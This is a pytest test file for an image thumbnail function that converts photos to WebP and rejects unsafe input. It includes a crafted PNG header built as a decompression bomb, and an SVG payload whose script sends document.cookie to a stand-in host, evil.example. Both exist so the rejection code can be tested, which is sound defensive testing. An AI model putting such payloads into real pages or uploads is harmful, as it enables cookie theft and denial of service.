"""Image copies from bytes: photos in every format become WebP at a few widths; anything else is refused."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image

from newsdesk.extract.thumbnails import ImageRejected, make_thumbnails, widths_for


def encoded(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def photo(width: int = 1200, height: int = 800, mode: str = "RGB") -> Image.Image:
    image = Image.new(mode, (width, height), (30, 90, 160) if mode == "RGB" else (30, 90, 160, 128))
    for x in range(0, width, 40):  # some detail, so the encoder has work to do
        image.paste((200, 60, 20) if mode == "RGB" else (200, 60, 20, 255), (x, 0, x + 10, height))
    return image


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header claims ``width`` x ``height`` pixels: a decompression bomb's first bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 4096)
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b"")


@pytest.mark.parametrize(
    ("original", "expected"),
    [(1200, [320, 640, 960]), (700, [320, 640, 700]), (640, [320, 640]), (200, [200])],
)
def test_copies_are_never_wider_than_the_original(original: int, expected: list[int]) -> None:
    assert widths_for(original) == expected


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "GIF", "WEBP"])
def test_a_photo_becomes_webp_copies_of_the_same_shape(fmt: str) -> None:
    copies = make_thumbnails(encoded(photo(1200, 800), fmt))
    assert [(c.width, c.height) for c in copies] == [(320, 213), (640, 427), (960, 640)]
    for copy in copies:
        with Image.open(io.BytesIO(copy.data)) as decoded:
            assert decoded.format == "WEBP" and decoded.size == (copy.width, copy.height)
        assert copy.media_type == "image/webp"


def test_transparency_is_kept() -> None:
    copies = make_thumbnails(encoded(photo(400, 300, "RGBA"), "PNG"))
    with Image.open(io.BytesIO(copies[0].data)) as decoded:
        assert decoded.mode == "RGBA"


def test_a_photo_taken_sideways_is_turned_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to view
    copies = make_thumbnails(encoded(photo(800, 400), "JPEG", exif=exif.tobytes()))
    assert (copies[-1].width, copies[-1].height) == (400, 800)


def test_a_decompression_bomb_is_refused_before_its_pixels_are_decoded() -> None:
    with pytest.raises(ImageRejected, match="pixels"):
        make_thumbnails(png_claiming(100_000, 100_000))


def test_a_picture_over_the_configured_pixel_cap_is_refused() -> None:
    with pytest.raises(ImageRejected, match="too many pixels: 1200x800"):
        make_thumbnails(encoded(photo(1200, 800), "PNG"), max_pixels=500_000)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" '
    b'onload="alert(document.cookie)"><script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<rect width="800" height="600" fill="red"/></svg>'
)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(SVG_WITH_SCRIPT, id="svg-with-script"),
        pytest.param(b"<html><body>Not found</body></html>", id="html-error-page"),
        pytest.param(b"", id="empty"),
        pytest.param(encoded(photo(1200, 800), "JPEG")[:2000], id="truncated-jpeg"),
        pytest.param(encoded(photo(1, 1), "GIF"), id="tracking-pixel"),
        pytest.param(encoded(photo(300, 300), "TIFF"), id="tiff"),
    ],
)
def test_what_is_not_a_photo_gives_no_copy(data: bytes) -> None:
    with pytest.raises(ImageRejected):
        make_thumbnails(data)


def test_an_animation_gives_its_first_frame() -> None:
    frames = [photo(500, 300), Image.new("RGB", (500, 300), (0, 0, 0))]
    data = encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100)
    copies = make_thumbnails(data)
    with Image.open(io.BytesIO(copies[0].data)) as decoded:
        assert decoded.getpixel((16, 5))[2] > 100  # blue from the first frame, not the black second one
        assert getattr(decoded, "n_frames", 1) == 1
